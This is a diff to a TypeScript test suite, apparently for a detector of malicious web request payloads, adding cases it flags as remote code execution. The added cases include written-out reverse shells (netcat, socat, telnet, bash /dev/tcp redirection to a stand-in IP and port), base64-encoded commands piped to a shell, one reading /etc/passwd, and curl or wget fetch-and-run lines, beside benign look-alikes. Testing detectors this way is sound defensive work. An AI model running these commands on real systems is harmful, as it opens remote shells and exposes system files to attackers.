@@ -688,6 +688,14 @@ const LIVING_OFF_THE_LAND: Case[] = [
   ["body:form", "c=" + encodeURIComponent("curl -fsSL https://evil.example/x.sh | sudo sh")],
   ["body:json", JSON.stringify({ cmd: "curl -s http://198.51.100.7/x | /bin/sh" })],
   ["query", "x=" + encodeURIComponent("wget -qO- ftp://198.51.100.7/a|python3")],
+  // Reverse shells: netcat or socat running a program for the peer, a session or a decoder piped to a shell.
+  ["query", "x=" + encodeURIComponent("nc -e /bin/sh 198.51.100.7 4444")],
+  ["body:json", JSON.stringify({ host: "ncat 198.51.100.7 4444 --sh-exec 'bash -i'" })],
+  ["query", "x=" + encodeURIComponent("busybox nc 198.51.100.7 4444 -e sh")],
+  ["body:form", "c=" + encodeURIComponent("socat tcp-connect:198.51.100.7:4444 exec:sh,pty")],
+  ["query", "x=" + encodeURIComponent("telnet 198.51.100.7 4444 | /bin/bash | telnet 198.51.100.7 4445")],
+  ["query", "x=" + encodeURIComponent("echo YmFzaCAtaQ== | base64 -d | bash")],
+  ["body:json", JSON.stringify({ cmd: "base64 -d <<< Y2F0IC9ldGMvcGFzc3dk | sh" })],
 ];
 const NOT_LIVING_OFF_THE_LAND: Case[] = [
   // The programs' everyday arguments, and sentences that name them.
@@ -710,6 +718,13 @@ const NOT_LIVING_OFF_THE_LAND: Case[] = [
   ["query", "q=" + encodeURIComponent("curl http://x.example/a || bash fallback.sh")],
   ["body:json", JSON.stringify({ text: "wget is a tool; curl | bash is risky" })],
   ["body:json", JSON.stringify({ cmd: "curl -o a.sh https://example.com/a.sh" })],
+  // Network tools' everyday use, an echo into a filter, words that open as the programs' names do.
+  ["query", "q=" + encodeURIComponent("nc -zv example.com 443")],
+  ["query", "q=" + encodeURIComponent("socat - TCP:example.com:80")],
+  ["query", "q=" + encodeURIComponent("telnet mail.example.com 25")],
+  ["query", "q=" + encodeURIComponent("echo test | grep t")],
+  ["query", "q=" + encodeURIComponent("netcat -l 1234")],
+  ["body:json", JSON.stringify({ text: "business plan -e draft | shared" })],
 ];
 
 // A path with the shell's wildcards that names a program or an OS file (globpath.ts): rce or traversal.
@@ -726,6 +741,16 @@ const NOT_GLOBBED_PATH: Case[] = [
   ["body:json", JSON.stringify({ glob: "/etc/* /bin/*" })],
   ["query", "u=" + encodeURIComponent("https://x.example/bin/c?t=1")],
   ["body:json", JSON.stringify({ routes: "/api/v?/users/* /usr/bin/c?" })],
+];
+
+// bash's network redirection (revshell.ts): rce.
+const BASH_NET_REDIRECT: Case[] = [
+  ["query", "x=" + encodeURIComponent("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")],
+  ["body:json", JSON.stringify({ name: "a; exec 196<>/dev/udp/198.51.100.7/53" })],
+];
+const NOT_BASH_NET_REDIRECT: Case[] = [
+  ["query", "q=" + encodeURIComponent("/dev/tcp")],
+  ["body:json", JSON.stringify({ path: "/dev/tty", note: "see /dev/tcp/ in bash(1)" })],
 ];
 
 // Razor's explicit expression holding arithmetic on two numbers (razor.ts): ssti.
@@ -768,6 +793,7 @@ describeVerdicts("%s payload verdicts", () => core, [
   ["remote-include", "rce", REMOTE_INCLUDE, NOT_REMOTE_INCLUDE],
   ["globbed-path", "rce|traversal", GLOBBED_PATH, NOT_GLOBBED_PATH],
   ["razor-probe", "ssti", RAZOR_PROBE, NOT_RAZOR_PROBE],
+  ["bash-net-redirect", "rce", BASH_NET_REDIRECT, NOT_BASH_NET_REDIRECT],
   ["living-off-the-land", "rce", LIVING_OFF_THE_LAND, NOT_LIVING_OFF_THE_LAND],
   ["yaml-gadget", "rce", YAML_GADGET, NOT_YAML_GADGET],
   ["python-escape", "rce|ssti|xss|nosqli", PYTHON_ESCAPE, NOT_PYTHON_ESCAPE],
